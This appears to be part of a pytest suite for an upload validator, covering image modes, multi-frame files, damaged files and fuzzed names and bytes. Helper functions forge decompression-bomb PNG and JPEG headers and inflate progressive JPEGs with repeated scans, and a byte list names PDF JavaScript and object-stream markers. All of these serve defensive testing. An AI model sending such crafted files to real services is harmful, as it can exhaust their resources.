@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_stays_one(mode: str) -> None:
    assert opened(uploads.check("a.png", image(mode=mode)).content).size == (6, 4)


def test_what_is_transparent_stays_transparent() -> None:
    for mode, clear in (("P", 0), ("L", 0), ("RGB", (0, 0, 0))):
        picture = opened(uploads.check("a.png", image(mode=mode, transparency=clear)).content)
        assert picture.convert("RGBA").getpixel((3, 3))[3] == 0


@pytest.mark.parametrize("mode", ["L", "CMYK"])
def test_a_jpeg_in_grey_or_for_print_is_kept(mode: str) -> None:
    assert opened(uploads.check("a.jpg", image("JPEG", mode=mode)).content).mode in {"L", "RGB"}


@pytest.mark.parametrize(("name", "kind", "out"), [("a.png", "PNG", "PNG"), ("a.jpg", "MPO", "JPEG")])
def test_of_several_frames_the_first_is_kept(name: str, kind: str, out: str) -> None:
    target = io.BytesIO()
    first, second = Image.new("RGB", (6, 4), (200, 0, 0)), Image.new("RGB", (6, 4), (0, 0, 200))
    first.save(target, kind, save_all=True, append_images=[second])
    assert opened(target.getvalue()).n_frames == 2
    picture = opened(uploads.check(name, target.getvalue()).content)
    assert (picture.format, getattr(picture, "n_frames", 1)) == (out, 1)
    assert picture.getpixel((2, 2))[0] > 150


def huge_png(width: int, height: int) -> bytes:
    """A few bytes that say they are an image of that size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def huge_jpeg(width: int, height: int) -> bytes:
    content = bytearray(image("JPEG"))
    start = content.index(b"\xff\xc0")
    content[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(content)


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(("width", "height"), [(8_000, 5_001), (60_000, 60_000)])
def test_an_image_bomb_is_refused_undecoded(monkeypatch: pytest.MonkeyPatch, width: int, height: int) -> None:
    decoded: list[object] = []
    for owner in (ImageFile.ImageFile, PngImagePlugin.PngImageFile):
        monkeypatch.setattr(owner, "load", decoded.append)
    assert code_of("a.png", huge_png(width, height)) == "file_picture"
    assert code_of("a.jpg", huge_jpeg(width, height)) == "file_picture"
    assert decoded == []


@pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")
def test_an_image_bomb_is_one_where_warnings_are_errors() -> None:
    assert code_of("a.png", huge_png(8_000, 5_001)) == "file_picture"


def test_a_jpeg_of_very_many_passes_is_refused() -> None:
    content = image("JPEG", progressive=True)
    start = content.rindex(b"\xff\xda")
    scan = content[start:-2]
    assert uploads.check("a.jpg", content).media_type == "image/jpeg"
    assert code_of("a.jpg", content[:-2] + scan * 200 + content[-2:]) == "file_picture"


def test_a_large_jpeg_may_be_drawn_less_often_than_a_small_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each pass goes over the whole image, and an empty one has a few bytes."""
    drawn: list[object] = []
    monkeypatch.setattr(inside_images, "_bare", lambda _kind, picture: drawn.append(picture) or picture)
    for size, most in (((2_000, 3_000), 100), ((7_500, 5_000), 16)):
        content = image("JPEG", size=size, mode="L", progressive=True)
        scan = content[content.rindex(b"\xff\xda") : -2]
        count = content.count(b"\xff\xda")
        for repeated, is_kept in ((most - count, True), (most - count + 1, False)):
            drawn.clear()
            answer = outcome("a.jpg", content[:-2] + scan * repeated + content[-2:])
            assert (isinstance(answer, uploads.Checked), len(drawn)) == (is_kept, is_kept)
            assert is_kept or answer == "file_picture"


def test_an_image_that_grows_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    # Noise as a coarse JPEG is small, and drawn anew finer than it was.
    noise = Image.effect_noise((200, 200), 90)
    coarse, png = io.BytesIO(), io.BytesIO()
    noise.save(coarse, "JPEG", quality=5)
    noise.save(png, "PNG")
    monkeypatch.setattr(uploads, "MAX_BYTES", len(coarse.getvalue()) + 1)
    assert code_of("a.jpg", coarse.getvalue()) == "file_too_large"
    monkeypatch.setattr(uploads, "MAX_BYTES", 20_000)
    assert len(uploads.check("a.jpg", coarse.getvalue()).content) <= 20_000


@pytest.mark.parametrize("others_are_lenient", [False, True])
@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_damaged_image_is_broken(
    monkeypatch: pytest.MonkeyPatch, kind: str, *, others_are_lenient: bool
) -> None:
    # One switch of Pillow for the whole process, and printing a paper turns it on.
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", others_are_lenient)
    content = image(kind, size=(64, 64))
    name = "a.png" if kind == "PNG" else "a.jpg"
    for broken in (content[:12], content[: len(content) // 2]):
        assert code_of(name, broken) == "file_broken"
    assert code_of("a.png", huge_png(0, 0)) == "file_broken"


# ── Anything at all ──────────────────────────────────────────────────────────────────────────────────

SEEDS = {
    "pdf": packed(b"1 0 << /A /B >>"),
    "png": image("PNG", exif=located(6)),
    "jpg": image("JPEG", exif=located(6)),
    "jpeg": image("JPEG", progressive=True),
    "xlsx": workbook(),
    "docx": office("docx"),
    "pptx": office("pptx"),
    "csv": "名称\n".encode("cp932"),
}
CODES = {"file_required", "file_too_large", "file_type", "file_bomb", "file_active", "file_broken"}


def answers(name: str, content: bytes) -> None:
    kept = outcome(name, content)
    if isinstance(kept, str):
        assert kept in CODES
        return
    assert kept.sha256 == hashlib.sha256(kept.content).hexdigest()
    assert 0 < len(kept.content) <= uploads.MAX_BYTES
    assert len(kept.name) <= 120


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("extension", uploads.KINDS)
@given(content=st.binary(max_size=400), magic=st.booleans())
def test_random_bytes_are_kept_or_refused(extension: str, content: bytes, magic: bool) -> None:
    start = SEEDS[extension][:8] if magic else b""
    end = b"%%EOF" if extension == "pdf" else b""
    answers(f"a.{extension}", start + content + end)


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("extension", uploads.KINDS)
@given(data=st.data())
def test_a_file_with_any_bytes_changed_is_kept_or_refused(extension: str, data: st.DataObject) -> None:
    content = bytearray(SEEDS[extension])
    places = st.tuples(st.integers(0, len(content) - 1), st.integers(0, 255))
    for place, value in data.draw(st.lists(places, max_size=8)):
        content[place] = value
    answers(f"a.{extension}", bytes(content[: data.draw(st.integers(0, len(content)))]) or b"x")
    answers(f"a.{extension}", bytes(content))


@given(name=st.text(st.characters(), max_size=300))
@example(name="Z" + "\u0301\u0323\u0336" * 100_000)
@example(name="a" * 116 + ".PDF")
def test_any_name_is_cleaned_or_refused(name: str) -> None:
    answers(name, PDF)
    answers(f"{name}.pdf", PDF)


#: What makes a reader begin anew from each byte: runs, marks in turn, beginnings without an end.
_HOSTILE = [
    b"\xff", b"\x00", b" ", b"/", b"a", b"\n", b"\xff\x01", b"\xff\x00", b"\xff\xd8", b"\xff\xda", b"\xff\xe0\x00\x00",
    b"\xff\xe0\x00\x02", b"/J#53", b"/JS ", b"/#4", b"/ObjStm ", b"/ObjStm stream\n", b"stream\r", b"<", b"<!", b"<a ",
    b'"', b'",', b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06", b"\x81\x40", b"\xe3\x81", b"IDAT", b"\x00\x00\x00\x04tEXt",
]  # fmt: skip


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("extension", uploads.KINDS)
def test_whatever_the_bytes_four_times_as_many_cost_four_times_as_much(extension: str) -> None:
    seed, end = SEEDS[extension], b"%%EOF" if extension == "pdf" else b""
    for front in (seed[:3], seed[: len(seed) // 2]):
        for one in _HOSTILE:
            assert_linear(lambda n: outcome(f"a.{extension}", front + one * (n // len(one)) + end), 4_000)  # noqa: B023
